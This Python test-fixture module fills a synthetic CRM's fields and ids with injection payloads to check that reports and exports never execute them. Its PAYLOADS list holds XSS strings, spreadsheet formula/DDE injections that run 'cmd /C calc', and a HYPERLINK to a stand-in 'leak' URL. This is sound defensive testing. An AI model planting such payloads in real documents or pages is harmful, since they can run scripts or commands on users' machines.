"""A CRM full of hostile text, for checking that nothing from the CRM executes anywhere.

Every free-text field and every id of a CRM (rep, team, region, account, industry,
opportunity, product, lead source) is replaced by a payload that would run if a report or
an export let it through: HTML/JS (``<script>``, ``<img onerror>``, ``<svg onload>``),
spreadsheet formulas (``=HYPERLINK(...)``, ``+cmd|...``, ``@SUM``), Markdown/LaTeX that
matplotlib or a Markdown renderer could interpret, control characters, and names in
non-Latin scripts. Replacements are one-to-one per column (foreign keys stay consistent),
so every analysis gives the same numbers as on the clean CRM.

Payloads set ``window.__pwned`` (or open an ``alert``): a browser test loads a report and
asserts neither happened.

Examples
--------
>>> from salesops_models.synthetic import generate_org
>>> crm = hostile_crm(generate_org(n_reps=6, years=1, seed=1).crm)
>>> any("<script>" in str(n) for n in crm.reps["name"])
True
"""

from __future__ import annotations

import pandas as pd

from ..crm import CRM

#: One payload per kind of attack; ``{i}`` keeps replacements distinct.
PAYLOADS: tuple[str, ...] = (
    '<script>window.__pwned=(window.__pwned||0)+1;alert("x{i}")</script>',
    '<img src=x onerror="window.__pwned=1">{i}',
    '<svg onload="window.__pwned=1">{i}</svg>',
    '=HYPERLINK("http://x.example/?leak","click{i}")',
    "+cmd|' /C calc'!A0 {i}",
    "@SUM(1+1)*cmd|' /C calc'!A0 {i}",
    "-2+3+cmd|' /C calc'!A0 {i}",
    '"><iframe src="javascript:window.__pwned=1"></iframe>{i}',
    "王伟 {i}",
    "Иван Петров {i}",
    "Zoë Müller {i}",
    "$\\frac{{1}}{{0}}$ **bold** [link](javascript:window.__pwned=1) {i}",
    "tab\there {i}",
    "bell\x07 and nul-like\x1b[31m {i}",
    "&lt;already&gt; escaped {i}",
)


def hostile_values(values: pd.Series, offset: int = 0) -> dict:
    """A one-to-one map from the distinct non-null values of ``values`` to payloads."""
    uniq = pd.unique(values.dropna())
    return {v: PAYLOADS[(k + offset) % len(PAYLOADS)].format(i=k) for k, v in enumerate(uniq)}


def _remap(df: pd.DataFrame, col: str, mapping: dict) -> None:
    if col in df:
        df[col] = df[col].map(lambda v: mapping.get(v, v) if v is not None else v)


def hostile_crm(crm: CRM, *, ids: bool = True) -> CRM:
    """A copy of ``crm`` with hostile text in every free-text field (and, with ``ids``, in
    every rep, account and opportunity id, consistently across tables)."""
    t = {name: df.copy() for name, df in crm.tables.items()}
    reps, acc, opp, hist, quo, act = (
        t["reps"],
        t["accounts"],
        t["opportunities"],
        t["opportunity_history"],
        t["quotas"],
        t["activities"],
    )
    for k, (df, col) in enumerate(
        [
            (reps, "name"),
            (reps, "team"),
            (acc, "name"),
            (acc, "industry"),
            (opp, "name"),
            (opp, "product"),
            (opp, "lead_source"),
            (act, "subject"),
            (act, "outcome"),
        ]
    ):
        _remap(df, col, hostile_values(df[col], offset=k))
    # one region vocabulary for reps and accounts (joins on region keep working)
    regions = hostile_values(pd.concat([crm.reps["region"], crm.accounts["region"]]), 2)
    _remap(reps, "region", regions)
    _remap(acc, "region", regions)
    if ids:
        rep_ids = {
            v: f"{p}#{n}" for n, (v, p) in enumerate(hostile_values(crm.reps["id"], 5).items())
        }
        acc_ids = {
            v: f"{p}#{n}" for n, (v, p) in enumerate(hostile_values(crm.accounts["id"], 7).items())
        }
        opp_ids = {
            v: f"{p}#{n}"
            for n, (v, p) in enumerate(hostile_values(crm.opportunities["id"], 1).items())
        }
        for df, col in ((reps, "id"), (reps, "manager_id"), (acc, "owner_rep_id")):
            _remap(df, col, rep_ids)
        _remap(opp, "owner_rep_id", rep_ids)
        _remap(quo, "rep_id", rep_ids)
        _remap(acc, "id", acc_ids)
        _remap(opp, "account_id", acc_ids)
        _remap(opp, "id", opp_ids)
        _remap(hist, "opportunity_id", opp_ids)
        _remap(act, "rep_id", rep_ids)
        _remap(act, "account_id", acc_ids)
        _remap(act, "opportunity_id", opp_ids)
    for df in t.values():  # keep missing values missing (map turned None into NaN)
        for col in df.columns:
            if df[col].dtype == object:
                df[col] = df[col].where(df[col].notna(), None)
    out = CRM(**t, fiscal_year_start_month=crm.fiscal_year_start_month, meta=dict(crm.meta))
    out.meta["hostile"] = True
    return out


def contains_payload(text: str) -> bool:
    """Whether ``text`` shows at least one payload as visible text (escaped, not executed)."""
    return any(marker in text for marker in ("<script>", "onerror=", "<svg onload", "=HYPERLINK"))


__all__ = ["PAYLOADS", "contains_payload", "hostile_crm", "hostile_values"]
